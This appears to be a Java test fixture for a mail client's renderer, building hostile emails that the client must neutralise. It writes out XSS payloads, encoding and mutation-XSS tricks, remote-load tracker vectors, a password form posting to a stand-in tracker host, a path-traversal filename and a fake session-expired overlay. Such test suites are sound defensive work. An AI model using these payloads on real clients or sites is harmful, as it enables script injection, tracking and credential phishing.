package org.mailback.browser;

import java.util.List;

/** Mail that wants to do what mail must not do. Each ends with {@link #END}, which shows that it was rendered. */
final class HostileLetters {

    static final String END = "This is the end of the letter.";

    private HostileLetters() {}

    /** @param tracker a server that none of them may reach */
    static List<Letter> all(String tracker) {
        return List.of(
                html("Scripts", """
                        <script>top.document.title = 'hacked'; alert(1)</script>
                        <img src=x onerror="top.document.title = 'hacked'; alert(1)">
                        <svg onload="alert(1)"><script>alert(1)</script><animate onbegin="alert(1)" attributeName="x"/></svg>
                        <body onload="alert(1)"><details open ontoggle="alert(1)">x</details>
                        <math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>
                        <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
                        <input autofocus onfocus="alert(1)"><video><source onerror="alert(1)"></video>"""),
                html("Trackers", """
                        <img src="%1$s/img"><img srcset="%1$s/srcset 2x"><picture><source srcset="%1$s/source"><img></picture>
                        <table background="%1$s/background"><tr><td background="%1$s/td">x</td></tr></table>
                        <div style="background-image:url(%1$s/css)">x</div><p style="list-style:url('%1$s/list')">x</p>
                        <style>@import '%1$s/import'; @font-face{font-family:f;src:url(%1$s/font)} b{font-family:f;content:url(%1$s/content)}</style>
                        <b>x</b><link rel="stylesheet" href="%1$s/link"><link rel="prefetch" href="%1$s/prefetch">
                        <link rel="dns-prefetch" href="%1$s"><link rel="preconnect" href="%1$s">
                        <video src="%1$s/video" poster="%1$s/poster" autoplay></video><audio src="%1$s/audio" autoplay></audio>
                        <input type="image" src="%1$s/input"><svg><image href="%1$s/svg"/><use href="%1$s/use#x"/></svg>
                        <meta http-equiv="Link" content="<%1$s/meta>; rel=preload; as=image">""".formatted(tracker)),
                html("Frames and forms", """
                        <meta http-equiv="refresh" content="0;url=%1$s/refresh"><base href="%1$s/" target="_top">
                        <iframe src="%1$s/iframe"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>
                        <object data="%1$s/object"></object><embed src="%1$s/embed"><applet code="x"></applet>
                        <form action="%1$s/form" method="get"><input name="password"><button autofocus>Sign in again</button></form>
                        <a href="javascript:top.location='%1$s/js'">x</a><a href="data:text/html,<script>alert(1)</script>" target="_top">y</a>
                        <portal src="%1$s/portal"></portal><frameset><frame src="%1$s/frame"></frameset>""".formatted(tracker)),
                html("Over the page", """
                        <div style="position:fixed;inset:0;z-index:99999;background:red">Your session has ended</div>
                        <style>body{display:none} :root{position:fixed} reading-pane,mail-app{display:none!important}</style>
                        <div style="width:1000000px;height:1000000px">wide</div>"""),
                html("Nesting", "<div>".repeat(30_000) + "deep" + "</div>".repeat(30_000)),
                Letter.of("Encodings").raw("""
                        Content-Type: text/html; charset=utf-7

                        +ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>%s</p>
                        """.formatted(END)),
                Letter.of("Broken parts").raw("""
                        Content-Type: multipart/mixed; boundary="b"

                        --b
                        Content-Type: text/html; charset=no-such-charset
                        Content-Transfer-Encoding: quoted-printable

                        <p>=ZZ=3Cscript=3Ealert(1)=3C/script=3E\u0001 =</p><p>%s</p>
                        --b
                        Content-Type: text/html; name="second.html"
                        Content-Disposition: attachment; filename="../../<img src=x onerror=alert(1)>.html"

                        <script>alert(1)</script>
                        """.formatted(END)),
                Letter.of("Text that looks like HTML")
                        .from("\"<img src=x onerror=alert(1)>\" <mallory@example.org>")
                        .text("<script>alert(1)</script> javascript:alert(1) <img src=" + tracker + "/text>\n" + END));
    }

    private static Letter html(String subject, String body) {
        return Letter.of(subject).html("<html><body>" + body + "<p>" + END + "</p></body></html>");
    }
}
